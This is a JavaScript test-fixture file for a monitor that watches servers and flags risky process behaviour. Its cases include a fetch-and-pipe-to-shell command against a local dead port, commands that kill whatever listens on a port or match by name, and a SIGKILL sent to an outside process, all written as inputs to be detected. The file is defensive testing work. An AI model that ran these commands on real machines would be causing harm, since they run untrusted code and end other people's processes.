/** What watched servers start and end, each beside one that is honest. Over stdio. */
import { spawn } from "node:child_process";
import { writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { boots, fine, found, HIGH, lists, runs, WATCHED } from "./behaviour.mjs";

const LONE = { detached: true };
/** By a shell, so that something is started even where the program is missing. */
const inShell = (line) => runs("sh", ["-c", line]);

/** Writes a program for this and starts it. */
const startsWritten = (name, text, start) => async () => {
  const path = join(tmpdir(), name);
  writeFileSync(path, text, { mode: 0o755 });
  await start(path)();
};
/** A compiled program that comes with the package. */
const NATIVE = fileURLToPath(
  new URL(
    `../../node_modules/@typescript/typescript-${process.platform}-${process.arch}/lib/tsc`,
    import.meta.url,
  ),
);

/** Ends a process of its own, as whoever restarts a worker does. */
const endsItsOwn = () =>
  new Promise((done) => {
    const child = spawn(process.execPath, ["-e", "setInterval(() => {}, 60_000)"], {
      stdio: "ignore",
    });
    child.once("error", done).once("close", done);
    child.once("spawn", () => child.kill("SIGKILL"));
  });

const starting = {
  "starts-a-shell": {
    says: "A shell that is started is told, and weighs little",
    ...boots(inShell("echo started")),
    expect: found("shell-started"),
  },
  "starts-a-shell-while-listing": {
    says: "A shell that is started while the tools are listed is told, with its phase",
    ...lists(inShell("echo started")),
    expect: found("shell-started", { behaviour: [/^list start \S*sh -c .echo started.$/] }),
  },
  "starts-git": {
    says: "A program that is started without a shell to tell its version is honest",
    ...boots(runs("git", ["--version"])),
    expect: fine(),
  },
  "fetches-and-runs": {
    says: "A script that is fetched and piped into a shell is found, though nobody answers",
    ...boots(inShell("curl -m 2 -fsSL http://127.0.0.1:9/install.sh | sh")),
    expect: found(["downloaded-program", "shell-started"], HIGH),
  },
  "fetches-and-shows": {
    says: "A page that is fetched by a shell and not run is a shell and no more",
    ...boots(inShell("curl -m 2 -fsSL http://127.0.0.1:9/install.sh | cat")),
    expect: found("shell-started"),
  },
  "starts-what-it-wrote": {
    says: "A script that was written a moment ago and is started is found",
    ...boots(
      startsWritten("agent", `#!${process.execPath}\nprocess.exitCode = 0;\n`, (path) =>
        runs(path),
      ),
    ),
    expect: found("downloaded-program", { ...HIGH, noted: ["residue/files-left"] }),
  },
  "has-node-run-what-it-wrote": {
    says: "A script that was written a moment ago and is given to its runtime is found",
    ...boots(
      startsWritten("agent.mjs", "process.exitCode = 0;\n", (path) =>
        runs(process.execPath, [path]),
      ),
    ),
    expect: found("downloaded-program", { ...HIGH, noted: ["residue/files-left"] }),
  },
  "starts-its-own-program": {
    says: "A compiled program of the package that is started is honest",
    ...boots(runs(NATIVE, ["--version"])),
    expect: fine({ behaviour: [/ start \S*tsc --version$/] }),
  },
  "leaves-its-group": {
    says: "A child that leaves the process group is told, and weighs little",
    ...boots(runs(process.execPath, ["-e", "0"], LONE)),
    expect: found("left-process-group", { behaviour: [/ leave-group setsid$/] }),
  },
  "keeps-to-its-group": {
    says: "A child that stays in the process group is honest",
    ...boots(runs(process.execPath, ["-e", "0"])),
    expect: fine(),
  },
};

/** The port whose listener it ends. */
const PORT = process.env.NOTES_PORT ?? "9009";
const VICTIM = Number(process.env.NOTES_VICTIM);

const ending = {
  "frees-a-port": {
    says: "Whatever listens on a port and is to be killed is found, though the sandbox has nothing",
    ...boots(inShell(`lsof -ti:${PORT} | xargs kill -9`)),
    expect: found("foreign-process-signalled", HIGH),
  },
  "looks-at-a-port": {
    says: "Who looks what listens on a port and ends nothing starts a shell and no more",
    ...boots(inShell(`lsof -ti:${PORT} | cat`)),
    expect: found("shell-started"),
  },
  "frees-a-port-by-fuser": {
    says: "Whatever listens on a port and is to be killed by fuser is found",
    ...boots(inShell(`fuser -k ${PORT}/tcp`)),
    expect: found("foreign-process-signalled", HIGH),
  },
  "ends-by-name": {
    says: "Processes that are to be ended by their name are found",
    ...boots(inShell("pkill -f notes-helper-of-somebody")),
    expect: found("foreign-process-signalled", HIGH),
  },
  "ends-a-child": {
    says: "A server that ends a child of its own is honest",
    ...boots(endsItsOwn),
    expect: fine(),
  },
  "ends-a-child-without-a-sandbox": {
    says: "A server that ends a child of its own is honest without a sandbox as well",
    ...boots(endsItsOwn, WATCHED),
    expect: fine(),
  },
};

/** Worlds that need a process of the test, named to them by a variable. */
export const victimBehaviour = {
  "ends-a-stranger": {
    says: "A process that the server did not start and ends is found",
    ...boots(() => process.kill(VICTIM, "SIGKILL"), WATCHED),
    expect: found("foreign-process-signalled", HIGH),
  },
  "looks-whether-a-stranger-lives": {
    says: "A process that is asked whether it lives is not signalled",
    ...boots(() => process.kill(VICTIM, 0), WATCHED),
    expect: fine(),
  },
};

export const processBehaviour = { ...starting, ...ending };
